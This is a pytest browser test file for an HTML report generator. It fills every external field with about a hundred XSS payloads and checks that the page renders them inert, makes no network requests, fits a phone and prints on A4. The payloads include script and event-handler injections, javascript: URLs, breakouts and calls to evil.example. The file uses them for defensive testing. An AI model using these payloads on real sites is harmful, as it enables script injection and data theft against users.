"""The page in Chromium: hostile texts do nothing, nothing is loaded, it fits a phone."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import require
from voc.config import Aspect, Industry
from voc.records import Evidence, Topic
from voc.report import Figures, Scope, build_figures, write_report

pytestmark = pytest.mark.browser

CHROMIUM = Path("/usr/bin/chromium")
SWITCHES = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]

ALERTS = (
    "alert(1)", "alert`1`", "confirm(1)", "prompt(1)", "print()", "top.alert(1)",
    "fetch('https://evil.example')", "location='https://evil.example'",
    "document.body.append(1)", "window['al'+'ert'](1)",
)  # fmt: skip
TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script src=https://evil.example/x.js></script>{}",
    "<img src=x onerror={}>",
    "<img src=https://evil.example/p.png onload={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '<svg><a xlink:href="javascript:{}">x</a></svg>',
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,{}#x"/></svg>',
    '<math href="javascript:{}">x</math>',
    '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    '<button formaction="javascript:{}">x</button>',
    '<base href="https://evil.example/">{}',
    "<link rel=stylesheet href=https://evil.example/x.css>{}",
    '<meta http-equiv=refresh content="0;url=https://evil.example/?{}">',
    "<style>@import 'https://evil.example';</style>{}",
    "<style>*{{background:url(https://evil.example)}}</style>{}",
    '<div style="background:url(https://evil.example)">{}</div>',
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<xmp><script>{}</script></xmp>",
    "<plaintext>{}",
    "<isindex action=javascript:{}>",
    "<dialog open>{}</dialog>",
    "<portal src=https://evil.example>{}",
    "<frameset onload={}>",
)
BREAKOUTS = (
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover={} x="',
    "' onmouseover={} x='",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "</time><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "</svg><script>{}</script>",
    "</desc><script>{}</script>",
    "</a><img src=x onerror={}>",
    "</mark></p></blockquote><script>{}</script>",
    "<!--><img src=x onerror={}>",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml ><img src=x onerror={}>",
    "<<script>{}//<</script>",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<img/src=x/onerror={}>",
    "<img\nsrc=x\nonerror\n={}>",
    "＜script＞{}＜/script＞",
    "<script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "&<script>{}</script>;",
    "+ADw-script+AD4-{}",
    "{{{{7*7}}}}{}",
    "{{% raw %}}{}",
    "${{7*7}}{}",
    "#{{7*7}}{}",
    "<%= 7*7 %>{}",
    "\\u003cscript\\u003e{}",
    "\u202e<script>{}</script>",
    "\ufeff<script>{}</script>",
    "`;{};//",
    "';{};//",
    '";{};//',
    "{}</script><script>",
)
ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD4={}",
    "blob:https://evil.example/{}",
    "file:///etc/passwd#{}",
    "//evil.example/{}",
    'https://forum.example/" onclick="{}',
    "https://forum.example/' onclick='{}",
    "https://forum.example/><script>{}</script>",
    "https:javascript:{}",
    "http://javascript:{}@evil.example",
    "view-source:javascript:{}",
    "feed:javascript:{}",
)
PAYLOADS = tuple(
    pattern.format(ALERTS[place % len(ALERTS)])
    for place, pattern in enumerate((*TAGS, *BREAKOUTS, *ADDRESSES))
)
LOT = 20


@dataclass
class Watched:
    """A page in Chromium, and all that happened on it."""

    page: Any
    happened: list[str] = field(default_factory=list)

    def open(self, path: Path) -> None:
        self.page.goto(path.as_uri())
        self.page.wait_for_timeout(100)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    require("browser", CHROMIUM.exists(), f"Chromium is not installed at {CHROMIUM}")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=SWITCHES)
        yield browser
        browser.close()


@pytest.fixture
def watched(chromium: Any) -> Iterator[Watched]:
    page = chromium.new_page(viewport={"width": 1280, "height": 900})
    seen = Watched(page)

    def note_dialog(dialog: Any) -> None:
        seen.happened.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def note_request(request: Any) -> None:
        if not (request.is_navigation_request() and request.url.startswith("file:")):
            seen.happened.append(f"request {request.url}")

    page.on("dialog", note_dialog)
    page.on("request", note_request)
    page.on("console", lambda message: seen.happened.append(f"console {message.text}"))
    page.on("pageerror", lambda error: seen.happened.append(f"error {error}"))
    page.on("popup", lambda popup: seen.happened.append(f"popup {popup.url}"))
    yield seen
    page.close()


@pytest.fixture(scope="session")
def hostile(
    row: Callable[..., Any],
    mention: Callable[..., Any],
    issue: Callable[..., Any],
    order: Callable[..., Any],
    report: Callable[..., Any],
) -> Callable[..., Figures]:
    """Makes a report that has each payload in every field that comes from outside."""

    def make(payloads: tuple[str, ...]) -> Figures:
        rows, mentions, issues, orders, topics = [], [], [], [], []
        for place, payload in enumerate(payloads):
            flags = {"paid_burst"} if place == 1 else set()
            for number in range(6):
                name = f"{payload}{number}"
                rows.append(
                    row(
                        name, day=place + number, text=f"{payload} 顿挫 {payload}", url=payload,
                        product=payload, store=f"店{payload}", region=f"省{payload}",
                        channel="review", rating=1.0 + number % 5,
                        flags=flags if number == 5 else (),
                    )
                )  # fmt: skip
                mentions.append(
                    mention(
                        name,
                        payload,
                        product=payload,
                        store=f"店{payload}",
                        region=f"省{payload}",
                        occurred_at=rows[-1].occurred_at,
                    )
                )
            voices = tuple(
                Evidence(f"{payload}{number}", 0, len(payload), payload) for number in range(6)
            )
            issues.append(
                issue(payload, [], title=payload, aspect_id=payload, evidence=voices, count=6,
                      trend="rising", trend_p=0.01)
            )  # fmt: skip
            orders.append(
                order(payload, issue_id=payload, title=payload, department=f"部{payload}",
                      assignee=f"员{payload}", external_ref=f"{payload} ", due=50 + place)
            )  # fmt: skip
            moment = rows[-1].occurred_at
            topics.append(
                Topic(payload, f"题{payload}", payload, (f"词{payload}",), 9, 0.5, moment, moment,
                      (Evidence("x", 0, 1, payload),))
            )  # fmt: skip
        industry = Industry(
            id="hostile",
            name=payloads[0].strip()[:40],
            aspects=(Aspect(id="a", name=payloads[1].strip()[:40]),),
        )
        return build_figures(
            report(
                title=payloads[0], industry=industry, model=payloads[1], rows=rows,
                mentions=mentions, issues=issues, topics=topics, work_orders=orders,
                topic_voices=[(one.feedback_id, topic.topic_id, 1, True) for one in rows
                              for topic in topics if topic.topic_id in one.text],
                scope=Scope(products=payloads),
            )
        )  # fmt: skip

    return make


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 100


@pytest.mark.parametrize("first", range(0, len(PAYLOADS), LOT))
def test_hostile_texts_are_shown_and_do_nothing(
    first: int, hostile: Callable[..., Figures], watched: Watched, tmp_path: Path
) -> None:
    payloads = PAYLOADS[first : first + LOT]
    path = tmp_path / "<img src=x onerror=alert(1)> \"'&#{}.html"
    write_report(hostile(payloads), path)
    watched.open(path)
    page = watched.page
    page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    for selector in ("mark", "blockquote footer a", ".orders a"):
        for place in range(min(3, page.locator(selector).count())):
            page.locator(selector).nth(place).hover()
    page.wait_for_timeout(100)
    assert watched.happened == []
    assert page.locator("script, iframe, img, object, embed, form, base, [onerror]").count() == 0
    assert page.locator("style").count() == 1
    shown = _squeezed(page.evaluate("document.body.textContent"))
    for payload in payloads:
        assert _squeezed(payload) in shown
    for address in page.evaluate("[...document.links].map(one => one.href)"):
        assert address.startswith(("file:", "https://forum.example/"))


def test_a_page_with_everything_is_quiet_and_fits_a_phone(
    hostile: Callable[..., Figures], watched: Watched, tmp_path: Path
) -> None:
    long_word = "A" * 60 + "很长的名字没有空格" * 8
    write_report(hostile((long_word, "短", "一般的名字")), tmp_path / "report.html")
    for width in (1280, 820, 380):
        watched.page.set_viewport_size({"width": width, "height": 800})
        watched.open(tmp_path / "report.html")
        assert watched.page.evaluate("document.documentElement.scrollWidth") <= width
    assert watched.happened == []


def test_it_prints_on_a4(hostile: Callable[..., Figures], watched: Watched, tmp_path: Path) -> None:
    write_report(hostile(("甲", "乙")), tmp_path / "report.html")
    watched.open(tmp_path / "report.html")
    paper = watched.page.pdf(prefer_css_page_size=True)
    boxes = set(re.findall(rb"/MediaBox\s*\[([^\]]+)\]", paper))
    assert len(boxes) == 1
    width, height = (float(value) for value in boxes.pop().split()[2:])
    assert (round(width), round(height)) == (595, 842)
    assert len(re.findall(rb"/Type\s*/Page\b(?!s)", paper)) <= 6


def _squeezed(text: str) -> str:
    """Returns the text without what a page may lay out anew or leave out."""
    return re.sub(r"[\s\u2060\x00\x01]+", "", text)
